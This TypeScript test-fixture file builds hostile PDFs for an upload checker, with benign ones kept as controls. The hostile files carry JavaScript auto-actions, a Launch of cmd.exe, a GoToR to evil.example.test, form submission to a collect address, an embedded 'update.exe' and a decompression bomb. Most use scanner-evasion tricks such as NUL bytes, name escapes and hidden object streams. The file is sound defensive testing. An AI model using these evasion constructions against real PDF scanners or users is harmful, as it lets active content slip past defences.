import zlib from 'node:zlib';
import PDFKit from 'pdfkit';
import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import { pdfStream } from './upload-fixtures';

// PDFs that try to act on their own, each made here (written byte by byte, or with pdf-lib), and ordinary ones
// that must still pass. Every hostile one is valid enough that a reader opens it and finds its action.

type RawObject = { num: number; body: string | Buffer };

/**
 * A PDF from numbered objects with a classic cross-reference table. `xref` may point an object number at an
 * offset of its own choosing (what a reader follows), `tail` adds bytes after the last object.
 */
function rawPdf(
  objects: RawObject[],
  opts: { root: number; xref?: (offsets: Map<number, number[]>) => Map<number, number> } = { root: 1 },
): Buffer {
  const head = Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1');
  const parts: Buffer[] = [head];
  let offset = head.length;
  const seen = new Map<number, number[]>();
  for (const { num, body } of objects) {
    const chunk = Buffer.concat([
      Buffer.from(`${num} 0 obj\n`, 'latin1'),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : body,
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    seen.set(num, [...(seen.get(num) ?? []), offset]);
    parts.push(chunk);
    offset += chunk.length;
  }
  // By default the last definition of a number is the one the table names, as in an incremental update.
  const table = opts.xref?.(seen) ?? new Map([...seen].map(([n, at]) => [n, at[at.length - 1]]));
  const size = Math.max(...table.keys()) + 1;
  const rows = ['0000000000 65535 f '];
  for (let n = 1; n < size; n++) {
    const at = table.get(n);
    rows.push(at === undefined ? '0000000000 65535 f ' : `${String(at).padStart(10, '0')} 00000 n `);
  }
  const xref = [
    'xref',
    `0 ${size}`,
    ...rows,
    'trailer',
    `<< /Size ${size} /Root ${opts.root} 0 R >>`,
    'startxref',
    String(offset),
    '%%EOF',
    '',
  ].join('\n');
  parts.push(Buffer.from(xref, 'latin1'));
  return Buffer.concat(parts);
}

const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>';
const page = (extra = '') => `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] ${extra}>>`;
/** Catalog 1, pages 2, page 3, then the extra objects from 4 on. */
const onePage = (catalogExtra: string, pageExtra = '', ...extra: string[]) =>
  rawPdf([
    { num: 1, body: `<< /Type /Catalog /Pages 2 0 R ${catalogExtra}>>` },
    { num: 2, body: PAGES },
    { num: 3, body: page(pageExtra) },
    ...extra.map((body, i) => ({ num: i + 4, body })),
  ]);

/** An object stream of the given objects (number, body), with its dictionary's extra keys. */
function objectStream(objects: [number, string][], dictExtra = '/Type /ObjStm'): Buffer {
  let header = '';
  let data = '';
  for (const [num, body] of objects) {
    header += `${num} ${data.length} `;
    data += `${body}\n`;
  }
  return pdfStream(
    `${dictExtra} /N ${objects.length} /First ${header.length} /Filter /FlateDecode`,
    zlib.deflateSync(Buffer.from(header + data, 'latin1')),
  );
}

const ALERT = "(app.alert\\('Your claim is approved'\\))";

export const HOSTILE_PDFS: Record<string, () => Buffer | Promise<Buffer>> = {
  // NUL is white space to a PDF reader, but not to a regular expression's \s.
  'OpenAction and JS keys followed by NUL bytes': () =>
    onePage('/OpenAction\0 4 0 R ', '', `<< /S\0/JavaScript\0/JS\0${ALERT} >>`),

  // A string holding ">>\nstream\n" looks like the start of a stream to a byte scanner, which then skips to the
  // next "endstream": the catalog and its script sit in what it takes for stream data.
  'script inside what looks like another object’s stream data': () =>
    rawPdf(
      [
        { num: 2, body: PAGES },
        { num: 3, body: page() },
        { num: 4, body: '<< /Title (draft>>\nstream\n) >>' },
        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>' },
        { num: 5, body: `<< /S /JavaScript /JS ${ALERT} >>` },
        { num: 6, body: '<< /Title (endstream) >>' },
      ],
      { root: 1 },
    ),

  // The catalog and its /Names /JavaScript tree packed in a compressed object stream whose /Type is followed
  // by a NUL: the plain bytes never spell JavaScript.
  '/Names /JavaScript entry in a compressed object stream': () =>
    rawPdf(
      [
        { num: 2, body: PAGES },
        { num: 3, body: page() },
        {
          num: 7,
          body: objectStream(
            [
              [1, '<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 4 0 R >> >>'],
              [4, '<< /Names [(init) 5 0 R] >>'],
              [5, `<< /S /JavaScript /JS ${ALERT} >>`],
            ],
            '/Type\0/ObjStm',
          ),
        },
      ],
      // Objects 1, 4, 5 live in the stream; a reader repairing the table finds them there.
      { root: 1 },
    ),

  '/Names /JavaScript written plainly': () =>
    onePage(
      '/Names << /JavaScript 4 0 R >> ',
      '',
      '<< /Names [(a) 5 0 R] >>',
      `<< /S /JavaScript /JS ${ALERT} >>`,
    ),

  'JavaScript as a compressed stream, named with #xx escapes': () =>
    onePage(
      '/OpenAction 4 0 R ',
      '',
      '<< /S /J#61vaScript /J#53 5 0 R >>',
      pdfStream('/Filter /FlateDecode', zlib.deflateSync(Buffer.from("app.alert('hi')"))).toString('latin1'),
    ),

  'a web address opened on opening (URI OpenAction)': () =>
    onePage('/OpenAction << /S /URI /URI (http://example.test/collect) >> '),

  'another document opened on opening (GoToR)': () =>
    onePage('/OpenAction << /S /GoToR /F (\\\\\\\\evil.example.test\\\\share\\\\x.pdf) /D [0 /Fit] >> '),

  'Launch in a page’s additional actions (AA on open)': () =>
    onePage('', '/AA << /O << /S /Launch /F (cmd.exe) >> >> '),

  'document-level additional action (catalog AA, will close)': () =>
    onePage('/AA << /WC 4 0 R >> ', '', `<< /S /JavaScript /JS ${ALERT} >>`),

  'a form that submits itself (SubmitForm on a widget)': () =>
    onePage(
      '/AcroForm << /Fields [4 0 R] >> ',
      '/Annots [4 0 R] ',
      '<< /Type /Annot /Subtype /Widget /FT /Tx /T (serial) /Rect [50 50 300 80] /P 3 0 R /A << /S /SubmitForm /F << /FS /URL /F (http://example.test/collect) >> /Flags 4 >> >>',
    ),

  'ImportData on a link': () =>
    onePage(
      '',
      '/Annots [4 0 R] ',
      '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /ImportData /F (data.fdf) >> >>',
    ),

  'GoToE (embedded document) on a link': () =>
    onePage(
      '',
      '/Annots [4 0 R] ',
      '<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /GoToE /D [0 /Fit] /T << /R /C /N (x) >> >> >>',
    ),

  'a file attachment annotation': () =>
    onePage(
      '',
      '/Annots [4 0 R] ',
      '<< /Type /Annot /Subtype /FileAttachment /Rect [10 10 30 30] /FS << /Type /Filespec /F (x.exe) >> >>',
    ),

  'XFA form': () => onePage('/AcroForm << /Fields [] /XFA 4 0 R >> ', '', '<< /Title (x) >>'),

  // Object 4 defined twice: the table points a reader at the first (a script), a parser that keeps the last
  // definition sees an innocent GoTo.
  'one object number defined twice, the table naming the hostile one': () =>
    rawPdf(
      [
        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>' },
        { num: 2, body: PAGES },
        { num: 3, body: page() },
        { num: 4, body: `<< /S /JavaScript /JS ${ALERT} >>` },
        { num: 4, body: '<< /S /GoTo /D [3 0 R /Fit] >>' },
      ],
      { root: 1, xref: (seen) => new Map([...seen].map(([n, at]) => [n, at[0]])) },
    ),

  // An uncompressed stream whose /Length takes in a whole object; the table sends a reader into the stream
  // to find it.
  'an object hidden inside another object’s stream data': () => {
    const hidden = `\n5 0 obj\n<< /S /JavaScript /JS ${ALERT} >>\nendobj\n`;
    const stream = pdfStream('', Buffer.from(hidden, 'latin1')).toString('latin1');
    return rawPdf(
      [
        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>' },
        { num: 2, body: PAGES },
        { num: 3, body: page() },
        { num: 4, body: stream },
      ],
      {
        root: 1,
        xref: (seen) => {
          const table = new Map([...seen].map(([n, at]) => [n, at[0]]));
          const built = onePageOffsets(seen.get(4)![0], stream, hidden);
          table.set(5, built);
          return table;
        },
      },
    );
  },

  'an embedded file (pdf-lib attach)': async () => {
    const doc = await PDFDocument.create();
    doc.addPage([612, 792]);
    await doc.attach(Buffer.from('MZ not really a program'), 'update.exe', {
      mimeType: 'application/octet-stream',
    });
    return Buffer.from(await doc.save());
  },

  'JavaScript on a form field keystroke (pdf-lib)': async () => {
    const doc = await PDFDocument.create();
    const p = doc.addPage([612, 792]);
    const field = doc.getForm().createTextField('serial');
    field.addToPage(p, { x: 50, y: 700 });
    const js = doc.context.obj({ S: 'JavaScript', JS: PDFString.of('event.rc = true; app.alert(1)') });
    field.acroField.dict.set(PDFName.of('AA'), doc.context.obj({ K: js }));
    return Buffer.from(await doc.save());
  },
};

/** Where, in the file, the hidden object inside object 4's stream starts. */
function onePageOffsets(objectOffset: number, stream: string, hidden: string): number {
  const header = `4 0 obj\n`;
  const dataStart = objectOffset + header.length + stream.indexOf('stream\n') + 'stream\n'.length;
  return dataStart + hidden.indexOf('5 0 obj');
}

/** PDFs the parser cannot read: refused, since what cannot be read cannot be checked. */
export const UNREADABLE_PDFS: Record<string, () => Buffer> = {
  'an object stream in an encoding no one decodes': () =>
    rawPdf(
      [
        { num: 2, body: PAGES },
        { num: 3, body: page() },
        {
          num: 7,
          body: pdfStream(
            '/Type /ObjStm /N 1 /First 4 /Filter /JBIG2Decode',
            Buffer.from('1 0 << /Type /Catalog /Pages 2 0 R >>'),
          ),
        },
      ],
      { root: 1 },
    ),
  'no catalog at all': () => rawPdf([{ num: 2, body: PAGES }], { root: 1 }),
  // 80 MB of objects from 80 KB of Flate: more than a check may expand.
  'an object stream that expands to 80 MB': () =>
    rawPdf(
      [
        { num: 1, body: '<< /Type /Catalog /Pages 2 0 R >>' },
        { num: 2, body: PAGES },
        { num: 3, body: page() },
        {
          num: 7,
          body: pdfStream(
            '/Type /ObjStm /N 1 /First 6 /Filter /FlateDecode',
            zlib.deflateSync(
              Buffer.concat([
                Buffer.from('8 0 (', 'latin1'),
                Buffer.alloc(80 * 1024 * 1024, 32),
                Buffer.from(')'),
              ]),
              { level: 9 },
            ),
          ),
        },
      ],
      { root: 1 },
    ),
  // Strings within strings, each spelling an object header: read one by one, each header's object runs to the
  // end of the file (quadratic work), so the check bounds what it reads.
  'object headers nested in strings 50,000 deep': () =>
    onePage(`/Title (${'9 0 obj ('.repeat(50_000)}${')'.repeat(50_000)}) `),
};

/** A multi-page pdfkit document with a web link (a link a person clicks is not an action taken unasked). */
export function multiPagePdf(pages = 12): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const doc = new PDFKit({ size: 'A4', info: { Title: 'Site survey (fictional)' } });
    const parts: Buffer[] = [];
    doc.on('data', (c: Buffer) => parts.push(c));
    doc.on('end', () => resolve(Buffer.concat(parts)));
    doc.on('error', reject);
    for (let i = 0; i < pages; i++) {
      if (i) doc.addPage();
      doc.fontSize(16).text(`Fixture schedule, sheet ${i + 1} of ${pages}`);
      for (let r = 0; r < 40; r++)
        doc.fontSize(9).text(`Bay ${i * 40 + r + 1}: high-bay HB-150, 150 W, 4000 K`);
    }
    doc.fillColor('blue').text('Datasheet', { link: 'https://example.test/hb-150', underline: true });
    doc.end();
  });
}

/** A pdf-lib document saved with object streams (its default), as many office tools write them. */
export async function objectStreamPdf(): Promise<Buffer> {
  const doc = await PDFDocument.create();
  doc.setTitle('Packing list (fictional)');
  for (let i = 0; i < 3; i++) doc.addPage([612, 792]).drawText(`Carton ${i + 1}`, { x: 72, y: 700 });
  return Buffer.from(await doc.save({ useObjectStreams: true }));
}
